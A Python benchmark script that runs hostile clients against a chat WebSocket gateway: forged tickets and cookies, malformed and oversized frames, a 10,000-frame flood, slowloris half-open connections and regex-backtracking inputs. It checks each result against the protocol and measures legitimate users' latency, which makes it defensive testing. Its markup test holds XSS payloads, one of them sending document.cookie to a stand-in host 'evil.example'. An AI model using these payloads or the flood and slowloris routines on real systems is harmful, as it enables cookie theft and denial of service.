"""Hostile clients against the gateway, and what they do to everyone else.

Each attack is a coroutine that does one bad thing the way an attacker would (no cookie, a
forged ticket, someone else's conversation, garbage frames, floods, half-open connections,
input built to make the redaction patterns backtrack, ...) and returns a :class:`Verdict`:
what the protocol promises (docs/protocol.md), what the server did, and whether they agree.
Meanwhile a :class:`Probe` of ordinary users keeps chatting and measures their end-to-end
latency, before the attacks (the baseline) and during them; on a deployment it starts itself,
it also books the gateway processes' CPU time per phase (what each attack costs the server).
``tests/abuse`` runs the same attacks and asserts the verdicts; timings come only from this
script::

    .venv/bin/python -m bench.hostile                      # embedded gateway, one process
    .venv/bin/python -m bench.hostile --deploy scaleout    # 2 daphnes, PostgreSQL + Redis
    .venv/bin/python -m bench.hostile --url http://127.0.0.1:8000 --attacker freelancer-1 ...

The gateway keeps its default limits here: the flood must meet the real rate limit.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import statistics
import sys
import tempfile
import time
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

from websockets.asyncio.client import ClientConnection
from websockets.exceptions import ConnectionClosed, InvalidStatus

from bench.client import LoginFailed, Session, login
from bench.servers import (
    Daphne,
    ServerError,
    gateway_env,
    manage,
    private_redis_database,
    sqlite_url,
    temporary_postgres_database,
)

DEFAULT_POSTGRES_URL = "postgres://postgres@127.0.0.1:5432/test"
DEFAULT_REDIS_URL = "redis://127.0.0.1:6379/0"
WAIT = 15.0  # seconds for an answer that must come
# Hostile deployments close idle sockets after 10 s (not 15 min), so the half-open attack
# ends in seconds; and the attacker is not suspended for the contact-like inputs it sends
# (suspension has an attack of its own), so that it lives to try every attack.
HOSTILE_SETTINGS = {
    "GATEWAY_IDLE_TIMEOUT": "10",
    "GATEWAY_HEARTBEAT_INTERVAL": "1",
    "MODERATION_FLAG_AT": "100000",
    "MODERATION_SUSPEND_AT": "100000",
}
PAIRS = 12  # seed_demo pairs: attackers, the suspended user, the probe's pairs


@dataclass(frozen=True)
class Verdict:
    """One attack's outcome: what should happen, what did, and whether they agree."""

    attack: str
    expected: str
    observed: str
    ok: bool
    seconds: float = 0.0


@dataclass(frozen=True)
class Target:
    """Who attacks what.

    ``attacker`` is logged in and a participant of ``conversation`` only; ``foreign`` is a
    conversation of other people; ``suspended`` is a logged-in user whose account a
    moderator suspended (its own conversation is ``suspended_conversation``). ``flooder``
    is the attacker's counterpart in ``conversation``: its flood earns a cool-down that
    must not refuse the other attacks.
    """

    base_url: str
    attacker: Session
    flooder: Session
    conversation: int
    foreign: int
    suspended: Session
    suspended_conversation: int


# --- Socket helpers -------------------------------------------------------------------------


async def open_socket(session: Session, conversation: int, **options: Any) -> ClientConnection:
    return await asyncio.wait_for(session.connect(conversation, **options), WAIT)


async def read_until_closed(
    ws: ClientConnection, timeout: float = WAIT
) -> tuple[list[dict[str, Any]], int | None]:
    """Every JSON frame until the server closes the socket; the frames and the close code."""
    frames: list[dict[str, Any]] = []
    with contextlib.suppress(ConnectionClosed, TimeoutError):
        async with asyncio.timeout(timeout):
            async for raw in ws:
                frames.append(json.loads(raw))
    return frames, ws.close_code


async def answer(ws: ClientConnection, payload: str | bytes) -> dict[str, Any]:
    """Send one raw frame; the first frame that answers it (presence frames skipped)."""
    await ws.send(payload)
    async with asyncio.timeout(WAIT):
        while True:
            frame = json.loads(await ws.recv())
            if frame.get("type") not in {"presence", "typing", "read"}:
                return frame


def frame(type: str, **fields: Any) -> str:
    return json.dumps({"type": type, **fields})


def send_frame(text: str, client_id: str | None = None) -> str:
    return frame("message.send", client_id=client_id or uuid.uuid4().hex, text=text)


async def usable(ws: ClientConnection) -> bool:
    """Whether the socket still answers a valid frame after the abuse."""
    try:
        await ws.send(frame("history", after_seq=0, limit=1))
    except ConnectionClosed:
        return False
    reply = await until(ws, lambda f: f.get("type") in {"history", "error"})
    return reply is not None and reply["type"] == "history"


def verdict(attack: str, expected: str, observed: Any, ok: bool, started: float) -> Verdict:
    return Verdict(attack, expected, str(observed), ok, round(time.perf_counter() - started, 3))


# --- Attacks ----------------------------------------------------------------------------------


async def refused(
    attack: str, connect: Awaitable[ClientConnection], code: str, close: int
) -> Verdict:
    """A socket that must be accepted, told ``code`` and closed with ``close``."""
    started = time.perf_counter()
    try:
        ws = await connect
    except InvalidStatus as error:
        observed = f"handshake refused with HTTP {error.response.status_code}"
        return verdict(attack, f"error {code}, close {close}", observed, False, started)
    frames, close_code = await read_until_closed(ws)
    errors = [f["code"] for f in frames if f.get("type") == "error"]
    observed = f"errors {errors}, close {close_code}"
    return verdict(attack, f"error {code}, close {close}", observed,
                   errors == [code] and close_code == close, started)  # fmt: skip


async def no_cookie(t: Target) -> Verdict:
    anonymous = Session(t.base_url)
    return await refused("no cookie", open_socket(anonymous, t.conversation),
                         "not_authenticated", 4401)  # fmt: skip


async def forged_ticket(t: Target) -> Verdict:
    anonymous = Session(t.base_url)
    forged = "eyJ1IjoxfQ:1tForged:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
    connect = open_socket(anonymous, t.conversation, ticket=forged, send_cookie=False)
    return await refused("forged ticket", connect, "not_authenticated", 4401)


async def forged_cookie(t: Target) -> Verdict:
    forged = Session.resume(t.base_url, "nobody", {"sessionid": uuid.uuid4().hex})
    return await refused("forged session cookie", open_socket(forged, t.conversation),
                         "not_authenticated", 4401)  # fmt: skip


async def foreign_conversation(t: Target) -> Verdict:
    return await refused("another user's conversation", open_socket(t.attacker, t.foreign),
                         "forbidden", 4403)  # fmt: skip


async def missing_conversation(t: Target) -> Verdict:
    return await refused("no such conversation", open_socket(t.attacker, 987654321),
                         "not_found", 4404)  # fmt: skip


async def suspended_account(t: Target) -> Verdict:
    connect = open_socket(t.suspended, t.suspended_conversation)
    return await refused("suspended account", connect, "suspended", 4403)


async def each_answered(
    attack: str, t: Target, cases: Sequence[tuple[str | bytes, str]]
) -> Verdict:
    """Send each raw frame on one socket; each must get its error code, the socket survive."""
    started = time.perf_counter()
    async with t.attacker.connect(t.conversation) as ws:
        codes = []
        for payload, _ in cases:
            reply = await answer(ws, payload)
            codes.append(reply.get("code", reply["type"]))
        alive = await usable(ws)
    wanted = [code for _, code in cases]
    observed = f"{codes}, socket usable: {alive}"
    return verdict(attack, f"{wanted}, socket usable", observed, codes == wanted and alive,
                   started)  # fmt: skip


async def malformed_frames(t: Target) -> Verdict:
    return await each_answered("malformed frames", t, [
        ("{", "invalid_json"),
        ("[1, 2]", "invalid_json"),
        ("null", "invalid_json"),
        ('{"type": "rm -rf"}', "unknown_type"),
        ('{"no": "type"}', "unknown_type"),
        ('{"type": "message.send"}', "invalid_field"),
        ('{"type": "message.send", "client_id": 7, "text": "x"}', "invalid_field"),
        ('{"type": "message.send", "client_id": "' + "x" * 65 + '", "text": "x"}',
         "invalid_field"),
        ('{"type": "message.send", "client_id": "a", "text": " \\n\\t "}', "empty_text"),
        ('{"type": "history", "after_seq": -1}', "invalid_field"),
        ('{"type": "read", "seq": true}', "invalid_field"),
        ('{"type": "message.edit", "id": 2147483647, "text": "x"}', "not_found"),
    ])  # fmt: skip


async def binary_frames(t: Target) -> Verdict:
    return await each_answered("binary frames", t, [
        (b"\x00\xff\xfe", "binary_not_supported"),
        (send_frame("hello").encode(), "binary_not_supported"),
    ])  # fmt: skip


async def huge_frames(t: Target) -> Verdict:
    """Over the gateway's limits the frame is refused; over daphne's 1 MiB, the socket closes."""
    over_text = await each_answered("huge frames", t, [
        (send_frame("x" * 4001), "text_too_long"),
        (send_frame("x" * 40_000), "frame_too_large"),
        (frame("typing", padding="y" * 100_000), "frame_too_large"),
    ])  # fmt: skip
    started = time.perf_counter()
    async with t.attacker.connect(t.conversation) as ws:
        with contextlib.suppress(ConnectionClosed):
            await ws.send(send_frame("z" * (2 * 1024 * 1024)))
        _, close_code = await read_until_closed(ws)
    # daphne closes with 1009 and drops the connection at once, so a client still writing
    # its 2 MiB may only see the drop (1006): either way the server refused it.
    huge = verdict("huge frames", "close 1009 (or 1006)", f"close {close_code}",
                   close_code in {1009, 1006}, started)  # fmt: skip
    return Verdict(
        "huge frames",
        f"{over_text.expected}; 2 MiB: {huge.expected}",
        f"{over_text.observed}; 2 MiB: {huge.observed}",
        over_text.ok and huge.ok,
        round(over_text.seconds + huge.seconds, 3),
    )


FLOOD_FRAMES = 10_000
FLOOD_REFUSALS = 120  # GATEWAY_RATE_LIMIT_REFUSALS's default: then the flooder is closed
# The probe is measured for at least this long from the flood's start: the server still works
# through the frames queued behind the close after the flooder has seen it.
FLOOD_WATCH = 2.0


async def flood(t: Target) -> Verdict:
    """10,000 frames as fast as the client can write them (a fraction of a second).

    The server answers the frames within the frame limit, tells the next ones
    ``rate_limited``, and closes a client that keeps sending anyway with ``flooding`` and
    4429; everything the client had queued after that goes unanswered. Coming straight
    back is refused too (``GATEWAY_FLOOD_COOLDOWN``), or the flood would go on with fresh
    per-socket limits.
    """
    started = time.perf_counter()
    codes: Counter[str] = Counter()
    errors: list[str] = []
    async with t.flooder.connect(t.conversation) as ws:

        async def count_answers() -> None:
            with contextlib.suppress(ConnectionClosed):
                async for raw in ws:
                    reply = json.loads(raw)
                    codes[reply.get("code") or reply["type"]] += 1
                    if reply["type"] == "error":
                        errors.append(reply["code"])

        reader = asyncio.create_task(count_answers())
        payloads = [send_frame(f"flood {i}") if i % 10 == 0 else frame("typing")
                    for i in range(FLOOD_FRAMES)]  # fmt: skip
        sent = 0
        with contextlib.suppress(ConnectionClosed):  # closed mid-flood: the expected answer
            for payload in payloads:
                await ws.send(payload)
                sent += 1
        sent_in = time.perf_counter() - started
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(reader, 60)
        close_code = ws.close_code
    answered_in = time.perf_counter() - started
    comeback = await refused("", open_socket(t.flooder, t.conversation), "flooding", 4429)
    await asyncio.sleep(FLOOD_WATCH - (time.perf_counter() - started))
    # The frame limit lets ~120 frames through per period, of which ≤ 30 sends are stored.
    refused_then_closed = (1 <= codes["rate_limited"] <= FLOOD_REFUSALS
                           and errors[-1:] == ["flooding"] and close_code == 4429)  # fmt: skip
    others = set(codes) - {"rate_limited", "flooding", "message.ack", "message", "presence",
                           "typing"}  # fmt: skip
    ok = refused_then_closed and codes["message.ack"] <= 30 and not others and comeback.ok
    observed = (f"{dict(codes.most_common(6))} in {answered_in:.1f} s "
                f"({sent} frames sent in {sent_in:.1f} s), closed {close_code}; "
                f"reconnecting: {comeback.observed}")  # fmt: skip
    expected = (f"≤ {FLOOD_REFUSALS} rate_limited, then flooding and close 4429; "
                "≤ 30 acks; reconnecting refused with flooding, close 4429")  # fmt: skip
    return verdict("10,000 frames a second", expected, observed, ok, started)


HALF_OPEN_TCP = 100


async def slowloris(t: Target) -> Verdict:
    """Half-open connections: handshakes trickled in byte by byte, sockets that never speak.

    The authenticated idle sockets meet the per-user cap (10, then 4429) and the idle
    timeout (4408); the trickled handshakes only hold a file descriptor each.
    """
    started = time.perf_counter()
    host, port = t.base_url.removeprefix("http://").split(":")
    writers = []
    for _ in range(HALF_OPEN_TCP):
        _, writer = await asyncio.open_connection(host, int(port))
        writer.write(f"GET /ws/chat/{t.conversation}/ HTTP/1.1\r\nHost: {host}\r\n".encode())
        writers.append(writer)

    async def trickle() -> None:
        for i in range(1000):
            for writer in writers:
                with contextlib.suppress(OSError):
                    writer.write(f"X-Slow-{i}: 1\r\n".encode())
            await asyncio.sleep(1)

    trickling = asyncio.create_task(trickle())
    idle: list[ClientConnection] = []
    for _ in range(12):
        ws = await open_socket(t.attacker, t.conversation)
        idle.append(ws)
    outcomes = await asyncio.gather(*(read_until_closed(ws, 30) for ws in idle))
    trickling.cancel()
    for writer in writers:
        writer.close()
    closes = Counter(code for _, code in outcomes)
    # A socket of an earlier attack still closing may count against the cap for a moment.
    ok = set(closes) <= {4408, 4429} and closes[4408] <= 10 and closes[4429] >= 2
    observed = f"idle sockets closed with {dict(closes)}; {HALF_OPEN_TCP} trickled handshakes held"
    expected = "at most 10 idle sockets, closed 4408; the rest over the per-user cap closed 4429"
    return verdict("slowloris / half-open", expected, observed, ok, started)


GARBAGE = (
    "\u202eevil\u202c \u200b\u200b\u200b zero-width \ufeff",
    "Z\u0351\u0352\u0353\u0354" * 200,  # combining marks piled on one letter
    "\U0001f4a9" * 500 + " \U000e0041 tags \U0010ffff",
    "".join(chr(c) for c in range(0x2000, 0x2400)),
    "mixed \u0661\u0662\u0663 \u096a\u096b\u096c digits and \uff10\uff11 widths",
)
SURROGATES = (
    '{"type": "message.send", "client_id": "s1", "text": "lone \\ud800 high"}',
    '{"type": "message.send", "client_id": "s2", "text": "\\udfff lone low"}',
    '{"type": "message.send", "client_id": "s3", "text": "nul \\u0000 byte"}',
)


async def unicode_garbage(t: Target) -> Verdict:
    """Odd but valid Unicode is stored and relayed; invalid text is refused, never stored."""
    started = time.perf_counter()
    relayed_ok = True
    codes = []
    async with t.attacker.connect(t.conversation) as ws:
        for text in GARBAGE:
            client_id = uuid.uuid4().hex
            await ws.send(send_frame(text, client_id))
            got = await until(ws, lambda f, c=client_id: f.get("type") == "message"
                              and f.get("client_id") == c)  # fmt: skip
            relayed_ok &= got is not None
        for payload in SURROGATES:
            reply = await answer(ws, payload)
            codes.append(reply.get("code") or reply["type"])
        alive = await usable(ws)
    # Invalid UTF-8 in a text frame breaks the WebSocket protocol itself: close 1007.
    broken = await invalid_utf8(t)
    ok = (relayed_ok and codes == ["invalid_field"] * len(SURROGATES) and alive
          and broken in {1007, 1006})  # fmt: skip
    observed = (f"odd text relayed: {relayed_ok}; surrogates/NUL: {codes}; usable: {alive}; "
                f"invalid UTF-8 frame: close {broken}")  # fmt: skip
    expected = "odd text relayed; surrogates/NUL invalid_field; usable; invalid UTF-8: close 1007"
    # (autobahn fails the connection with 1007 and drops it at once: the client may see 1006)
    return verdict("Unicode garbage and surrogates", expected, observed, ok, started)


async def invalid_utf8(t: Target) -> int | None:
    """Send a text frame whose payload is not UTF-8 (bypassing the client's own encoding)."""
    async with t.attacker.connect(t.conversation) as ws:
        ws.protocol.send_text(b"bad \xff\xfe utf-8")  # the client's send() would encode
        ws.send_data()
        _, code = await read_until_closed(ws)
    return code


async def until(
    ws: ClientConnection, wanted: Callable[[dict[str, Any]], bool], timeout: float = WAIT
) -> dict[str, Any] | None:
    """The first frame for which ``wanted`` holds, or None after ``timeout`` or a close."""
    with contextlib.suppress(TimeoutError, ConnectionClosed):
        async with asyncio.timeout(timeout):
            while True:
                frame_ = json.loads(await ws.recv())
                if wanted(frame_):
                    return frame_
    return None


MARKUP = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "</textarea><svg/onload=alert(1)>&lt;&amp;&#x27;",
)


async def markup(t: Target) -> Verdict:
    """HTML is text: stored and relayed exactly as typed, never stripped or executed here."""
    started = time.perf_counter()
    async with t.attacker.connect(t.conversation) as ws:
        relayed = []
        for text in MARKUP:
            client_id = uuid.uuid4().hex
            await ws.send(send_frame(text, client_id))
            got = await until(ws, lambda f, c=client_id: f.get("type") == "message"
                              and f.get("client_id") == c)  # fmt: skip
            relayed.append(got["text"] if got else None)
        history = await answer(ws, frame("history", after_seq=0, limit=200))
    stored = {m.get("text") for m in history.get("messages", [])}
    ok = relayed == list(MARKUP) and set(MARKUP) <= stored
    in_history = set(MARKUP) <= stored
    observed = f"relayed verbatim: {relayed == list(MARKUP)}; history verbatim: {in_history}"
    return verdict("HTML/script in text", "relayed and stored verbatim", observed, ok, started)


# Inputs at the text limit, built against the shapes the detectors look for: long runs of
# digits and separators (phones), of local-part characters and dots (emails, hosts), of '@'
# and words (handles), of schemes and path characters (links).
BACKTRACKING = {
    "digits": "1" * 4000,
    "digit pairs": "12 " * 1333,
    "plus-dash": "+1-" * 1333,
    "parens": "(9) " * 1000,
    "local part no @": "a." * 1999 + "a",
    "at at at": "a@" * 2000,
    "dotted host": "x" + ".a" * 1999,
    "scheme no host": "http://" * 571,
    "url path": "https://a.b/" + "a/" * 1990,
    "spelled digits": "nine " * 800,
    "at words": "@ " + "word at " * 499,
    "dots and digits": "9." * 2000,
}


async def backtracking(t: Target) -> Verdict:
    """Each crafted text is acked or refused promptly, and the socket keeps serving."""
    started = time.perf_counter()
    slowest = ("", 0.0)
    answered = 0
    answers: Counter[str] = Counter()
    async with t.attacker.connect(t.conversation) as ws:
        for name, text in BACKTRACKING.items():
            sent = time.perf_counter()
            client_id = uuid.uuid4().hex
            await ws.send(send_frame(text[:4000], client_id))
            reply = await until(ws, lambda f, c=client_id: f.get("type") == "error" or (
                f.get("client_id") == c and f["type"] in {"message.ack", "message.withheld"}
            )) or {"type": "no answer"}  # fmt: skip
            took = time.perf_counter() - sent
            # The moderation policy may withhold a contact-like text: also a clear answer.
            answered += reply["type"] in {"message.ack", "message.withheld"}
            answers[reply.get("code") or reply["type"]] += 1
            slowest = max(slowest, (name, took), key=lambda item: item[1])
        alive = await usable(ws)
    ok = answered == len(BACKTRACKING) and alive
    observed = (f"{answered}/{len(BACKTRACKING)} acked or withheld {dict(answers)}, "
                f"slowest {slowest[0]!r} {slowest[1] * 1000:.0f} ms")  # fmt: skip
    return verdict("backtracking inputs", "every one acked, socket usable", observed, ok, started)


ATTACKS: dict[str, Callable[[Target], Awaitable[Verdict]]] = {
    "no-cookie": no_cookie,
    "forged-ticket": forged_ticket,
    "forged-cookie": forged_cookie,
    "foreign-conversation": foreign_conversation,
    "missing-conversation": missing_conversation,
    "suspended": suspended_account,
    "malformed": malformed_frames,
    "binary": binary_frames,
    "huge": huge_frames,
    "flood": flood,
    "slowloris": slowloris,
    "unicode": unicode_garbage,
    "markup": markup,
    "backtracking": backtracking,
}


# --- Everyone else: the probe -----------------------------------------------------------------


def cpu_seconds(pids: Sequence[int]) -> float:
    """User + system CPU time the processes ``pids`` have used so far (Linux ``/proc``)."""
    ticks = 0
    for pid in pids:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        ticks += int(fields[11]) + int(fields[12])  # utime, stime
    return ticks / os.sysconf("SC_CLK_TCK")


@dataclass
class Probe:
    """Ordinary pairs chatting throughout: each freelancer sends, its client receives.

    Latency is the sender's send to the receiver's frame. Sends stay under the default
    per-socket limit (30 in 10 s), as a person's would.
    """

    pairs: list[tuple[Session, Session, int]]
    interval: float = 0.5
    latencies: dict[str, list[float]] = field(default_factory=dict)
    lost: int = 0
    phase: str = "baseline"
    #: Gateway processes on this machine (an embedded or scale-out deployment): the CPU
    #: time they spend in each phase is what an attack costs, the probe's own share aside.
    server_pids: Sequence[int] = ()
    server_cpu: dict[str, float] = field(default_factory=dict)
    _cpu_mark: float | None = None

    def enter(self, phase: str) -> None:
        """Measure from now on as ``phase``; the previous phase's server CPU time is booked."""
        if self.server_pids:
            now = cpu_seconds(self.server_pids)
            if self._cpu_mark is not None:
                self.server_cpu[self.phase] = round(now - self._cpu_mark, 2)
            self._cpu_mark = now
        self.phase = phase

    async def run(self, stop: asyncio.Event) -> None:
        await asyncio.gather(*(self._pair(*pair, stop) for pair in self.pairs))

    async def _pair(self, sender: Session, receiver: Session, conversation: int,
                    stop: asyncio.Event) -> None:  # fmt: skip
        async with sender.connect(conversation) as out, receiver.connect(conversation) as into:
            sent_at: dict[str, tuple[str, float]] = {}

            async def receive() -> None:
                async for raw in into:
                    frame_ = json.loads(raw)
                    if frame_.get("type") == "message" and frame_["client_id"] in sent_at:
                        phase, at = sent_at.pop(frame_["client_id"])
                        self.latencies.setdefault(phase, []).append(time.perf_counter() - at)
                        # As a chat window does; it also keeps the socket from going idle.
                        await into.send(frame("read", seq=frame_["seq"]))

            async def drain_sender() -> None:
                async for _ in out:  # acks and own echoes: read so nothing backs up
                    pass

            tasks = [asyncio.create_task(receive()), asyncio.create_task(drain_sender())]
            await asyncio.sleep(1)  # both in the group before the first send
            while not stop.is_set():
                client_id = uuid.uuid4().hex
                sent_at[client_id] = (self.phase, time.perf_counter())
                await out.send(send_frame("probe: are we still on for Thursday?", client_id))
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(stop.wait(), self.interval)
            # Stragglers get 15 s (a loaded machine is slow, not lossy); then they are lost.
            deadline = time.monotonic() + 15
            while sent_at and time.monotonic() < deadline:
                await asyncio.sleep(0.1)
            self.lost += len(sent_at)
            for task in tasks:
                task.cancel()

    def figures(self, phase: str) -> dict[str, float | int | None]:
        values = sorted(self.latencies.get(phase, []))
        cpu = self.server_cpu.get(phase)
        if not values:
            return {"samples": 0, "p50_ms": None, "p99_ms": None, "server_cpu_s": cpu}
        return {
            "samples": len(values),
            "p50_ms": round(statistics.median(values) * 1000, 2),
            "p99_ms": round(values[min(len(values) - 1, int(len(values) * 0.99))] * 1000, 2),
            "server_cpu_s": cpu,
        }


async def attack_all(
    target: Target, probe: Probe, names: Sequence[str], baseline: float
) -> dict[str, Verdict]:
    """Run the probe alone for ``baseline`` seconds, then each attack in turn beside it."""
    stop = asyncio.Event()
    probe.enter("baseline")
    probing = asyncio.create_task(probe.run(stop))
    await asyncio.sleep(baseline)
    verdicts = {}
    for name in names:
        probe.enter(name)
        try:
            result = await ATTACKS[name](target)
        except Exception as error:  # an attack that blew up is a finding, not a crash
            result = Verdict(name, "an answer", f"{type(error).__name__}: {error}", False)
        verdicts[name] = result
        progress(f"{'ok  ' if result.ok else 'FAIL'} {result.attack}: {result.observed}")
    probe.enter("after the attacks")
    stop.set()
    await probing
    return verdicts


# --- Setting the scene --------------------------------------------------------------------------


def progress(line: str) -> None:
    print(line, file=sys.stderr, flush=True)


async def pair_conversation(session: Session, other: str) -> int:
    conversations = await session.conversations()
    return next(c["id"] for c in conversations
                if other in {p["username"] for p in c["participants"]})  # fmt: skip


async def prepare(base_url: str, probe_pairs: int, first_pair: int = 1) -> tuple[Target, Probe]:
    """Log in the attacker (pair ``first_pair``), suspend pair ``first_pair + 2``'s freelancer
    through the moderation API, and the probe's pairs after them."""
    k = first_pair
    attacker, flooder = await asyncio.gather(
        login(base_url, f"freelancer-{k}"), login(base_url, f"client-{k}")
    )
    victim = await login(base_url, f"freelancer-{k + 1}")
    suspended = await login(base_url, f"freelancer-{k + 2}")
    moderator = await login(base_url, "moderator")
    conversation = await pair_conversation(attacker, f"client-{k}")
    foreign = await pair_conversation(victim, f"client-{k + 1}")
    suspended_conversation = await pair_conversation(suspended, f"client-{k + 2}")
    user_id = next(p["id"] for c in await suspended.conversations() for p in c["participants"]
                   if p["username"] == suspended.username)  # fmt: skip
    answer_ = await moderator.post_json(
        f"/api/moderation/users/{user_id}/suspend/", {"reason": "hostile client test"}
    )
    if answer_.status != 200:
        raise LoginFailed(f"suspending {suspended.username} answered {answer_.status}: "
                          f"{answer_.body[:200]!r}")  # fmt: skip
    pairs = []
    for j in range(k + 3, k + 3 + probe_pairs):
        sender, receiver = await asyncio.gather(
            login(base_url, f"freelancer-{j}"), login(base_url, f"client-{j}")
        )
        pairs.append((sender, receiver, await pair_conversation(sender, f"client-{j}")))
    target = Target(
        base_url, attacker, flooder, conversation, foreign, suspended, suspended_conversation
    )
    return target, Probe(pairs)


@contextlib.contextmanager
def serve(deploy: str, directory: Path) -> Iterator[list[Daphne]]:
    """A fresh gateway with default limits: one daphne on SQLite, or two on PostgreSQL + Redis."""
    with contextlib.ExitStack() as stack:
        if deploy == "embedded":
            env, processes = gateway_env(sqlite_url(directory), extra=HOSTILE_SETTINGS), 1
        else:
            postgres = os.environ.get("BENCH_POSTGRES_URL", DEFAULT_POSTGRES_URL)
            redis = os.environ.get("BENCH_REDIS_URL", DEFAULT_REDIS_URL)
            database = stack.enter_context(temporary_postgres_database(postgres, "cg_hostile"))
            layer = stack.enter_context(private_redis_database(redis))
            env, processes = gateway_env(database, layer, extra=HOSTILE_SETTINGS), 2
        manage(env, "migrate", "--noinput")
        manage(env, "seed_demo", "--pairs", str(PAIRS))
        servers = []
        for i in range(processes):
            server = Daphne(env, name=f"hostile-{i + 1}", log_dir=directory)
            stack.callback(server.stop)
            servers.append(server.start())
            progress(f"{server.name} serving {server.base_url} (log {server.log_path})")
        yield servers


def report(verdicts: dict[str, Verdict], probe: Probe) -> dict[str, Any]:
    """Each attack's verdict beside the probe's latency while it ran, and the baseline."""
    base = probe.figures("baseline")
    rows = [{"name": name, **asdict(v), "probe": probe.figures(name)}
            for name, v in verdicts.items()]  # fmt: skip
    worst = max((row["probe"]["p99_ms"] or 0 for row in rows), default=0)
    return {
        "attacks": rows,
        "baseline": base,
        "probe_lost": probe.lost,
        "worst_p99_over_baseline": round(worst / base["p99_ms"], 2) if base["p99_ms"] else None,
    }


def table(result: dict[str, Any]) -> str:
    base = result["baseline"]
    lines = [
        f"{'attack':<32} {'ok':<4} {'p50 ms':>8} {'p99 ms':>8} {'cpu s':>6}  observed",
        f"{'(baseline, no attack)':<32} {'':<4} {base['p50_ms']!s:>8} {base['p99_ms']!s:>8} "
        f"{base['server_cpu_s']!s:>6}",
    ]
    for row in result["attacks"]:
        probe = row["probe"]
        lines.append(
            f"{row['attack']:<32} {'yes' if row['ok'] else 'NO':<4} "
            f"{probe['p50_ms']!s:>8} {probe['p99_ms']!s:>8} {probe['server_cpu_s']!s:>6}  "
            f"{row['observed']}"
        )
    lines.append(
        f"probe messages lost: {result['probe_lost']}; "
        f"worst p99 / baseline p99: {result['worst_p99_over_baseline']}"
    )
    return "\n".join(lines)  # fmt: skip


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m bench.hostile", description="Hostile clients against the gateway."
    )
    where = parser.add_mutually_exclusive_group()
    where.add_argument("--deploy", choices=("embedded", "scaleout"), default="embedded")
    where.add_argument("--url", help="attack a running gateway (seed_demo --pairs >= 12)")
    parser.add_argument(
        "--attack",
        action="append",
        choices=sorted(ATTACKS),
        help="only these attacks (repeatable; default all)",
    )
    parser.add_argument("--probe-pairs", type=int, default=4, help="ordinary pairs chatting")
    parser.add_argument("--baseline", type=float, default=10.0, help="seconds before attacking")
    parser.add_argument("--json", action="store_true", help="print the result as JSON")
    args = parser.parse_args(argv)  # fmt: skip
    if not 1 <= args.probe_pairs <= PAIRS - 3:
        parser.error(f"--probe-pairs must be between 1 and {PAIRS - 3}")
    names = args.attack or list(ATTACKS)

    async def go(url: str, server_pids: Sequence[int]) -> dict[str, Any]:
        target, probe = await prepare(url, args.probe_pairs)
        probe.server_pids = server_pids
        return report(await attack_all(target, probe, names, args.baseline), probe)

    try:
        with contextlib.ExitStack() as stack:
            if args.url:
                url, pids = args.url.rstrip("/"), []
            else:
                directory = Path(tempfile.mkdtemp(prefix="chatgateway-hostile-"))
                servers = stack.enter_context(serve(args.deploy, directory))
                url, pids = servers[0].base_url, [server.pid for server in servers]
            result = asyncio.run(go(url, pids))
    except (ServerError, LoginFailed) as error:
        print(f"hostile: {error}", file=sys.stderr)
        return 2
    print(json.dumps(result, indent=2) if args.json else table(result))
    return 0 if all(row["ok"] for row in result["attacks"]) else 1


if __name__ == "__main__":
    sys.exit(main())
